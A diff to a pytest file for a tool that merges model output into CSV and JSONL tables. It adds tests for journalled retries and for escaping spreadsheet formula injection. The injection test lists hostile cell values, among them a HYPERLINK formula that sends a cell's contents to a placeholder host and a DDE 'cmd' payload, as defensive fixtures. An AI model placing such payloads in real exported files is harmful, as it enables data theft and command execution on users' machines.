@@ -60,7 +60,7 @@ def test_csv(loads, capsys):
         "3,unreadable,5,,,the answer is no answer; the model said: You said: unreadable\r\n"
         "4,x,many,,,words: 'many' is not a whole number\r\n"
     )
-    assert sorted(path.name for path in Path().iterdir()) == ["capabilities", "in.csv", "out.csv"]
+    assert sorted(path.name for path in Path().iterdir()) == ["capabilities", "in.csv", "out.csv", "out.csv.journal"]
 
 
 def test_jsonl_stays_to_the_byte(loads, capsys):
@@ -154,13 +154,45 @@ def test_tables_come_back_as_they_were(tmp_path_factory, cells):
     (folder / "in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in cells))
     for table in (Csv(folder / "in.csv"), JsonLines(folder / "in.jsonl")):
         assert [row["text"] for row in table.read()] == [row["text"] for row in cells]
-        merged = b"".join(table.merged(["new"], ({"new": row["text"]} for row in cells))).decode()
+        merged = b"".join(table.merged(["new"], ({"new": "x" + row["text"]} for row in cells))).decode()
         again = (
             csv.DictReader(io.StringIO(merged, newline=""))
             if isinstance(table, Csv)
             else map(json.loads, merged.split("\n")[:-1])
         )
-        assert [(row["text"], row["new"]) for row in again] == [(row["text"], row["text"]) for row in cells]
+        assert [(row["text"], row["new"]) for row in again] == [(row["text"], "x" + row["text"]) for row in cells]
+
+
+@pytest.mark.parametrize(
+    ("said", "cell"),
+    [
+        ('=HYPERLINK("http://x.invalid/?"&A1)', '\'=HYPERLINK("http://x.invalid/?"&A1)'),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("- one\n- two", "'- one\n- two"),
+        ("\t=1", "'\t=1"),
+        ("-4.5", "-4.5"),
+        ("+1", "+1"),
+        ("1=1", "1=1"),
+        ("", ""),
+    ],
+)
+def test_no_spreadsheet_computes_what_a_model_wrote(said, cell):
+    """Nor is what the file held before touched, or JSONL."""
+    Path("in.csv").write_text("text\n=1+1\n")
+    Path("in.jsonl").write_text('{"text": "=1+1"}\n')
+    read, lines = Csv(Path("in.csv")), JsonLines(Path("in.jsonl"))
+    written = b"".join(read.merged(["new"], [{"new": said}])).decode()
+    assert list(csv.reader(io.StringIO(written, newline=""))) == [["text", "new"], ["=1+1", cell]]
+    assert read.marked == (said != cell)
+    assert json.loads(b"".join(lines.merged(["new"], [{"new": said}]))) == {"text": "=1+1", "new": said}
+
+
+def test_marked_cells_are_told(loads, capsys, monkeypatch):
+    monkeypatch.setattr(quipu, "load", lambda model, **options: fake_model(lambda asked: asked, name=model))
+    Path("in.csv").write_text("text\n=1+1\nhello\n")
+    assert batch() == 0
+    assert capsys.readouterr().err == ("2 rows in out.csv; 1 cells begin with ' so that no spreadsheet computes them\n")
 
 
 def test_added_names_are_free():
@@ -221,6 +253,45 @@ def test_killed_at_random_moments_every_row_is_there_once():
         {"text": f"row-{number}.", "said": f"You said: row-{number}.", "count": 3} for number in range(count)
     ]
     assert not Path("out.jsonl.journal").exists()
+
+
+def test_the_same_call_asks_rows_that_failed_again_and_no_others(loads, capsys, monkeypatch):
+    """Also when it is ended in between: each time no more than those that failed the time before."""
+    asked: list[str] = []
+    bad = {"row-3.", "row-7."}
+
+    def answer(text: str) -> str:
+        asked.append(text)
+        return "unreadable" if text in bad else f"You said: {text}"
+
+    def again() -> int:
+        asked.clear()
+        return batch()
+
+    monkeypatch.setattr(quipu, "load", lambda model, **options: fake_model(answer, name=model))
+    write_rows(10)
+    assert again() == 1
+    assert "2 of 10 rows failed; the column error of out.jsonl says why; the same call asks them again" in (
+        capsys.readouterr().err
+    )
+    first = rows("out.jsonl")
+    assert [place for place, row in enumerate(first) if "error" in row] == [3, 7]
+    bad.remove("row-3.")
+    assert again() == 1
+    assert set(asked) == {"row-3.", "row-7."}
+    bad.clear()
+    journal = Path("out.jsonl.journal")
+    lines = journal.read_bytes().splitlines(keepends=True)
+    [repaired] = [line for line in lines[12:] if b'"row": 3' in line]
+    journal.write_bytes(b"".join(lines[:12]) + repaired + b'{"row": 7, "err')  # the second time ended by kill -9
+    assert again() == 0
+    assert set(asked) == {"row-7."}
+    assert rows("out.jsonl") == [
+        {"text": f"row-{number}.", "said": f"You said: row-{number}.", "count": 3} for number in range(10)
+    ]
+    assert not journal.exists()
+    assert batch() == 1
+    assert "out.jsonl is there already" in capsys.readouterr().err
 
 
 def test_a_torn_line_is_done_again_and_another_batch_refused(loads, capsys, monkeypatch):
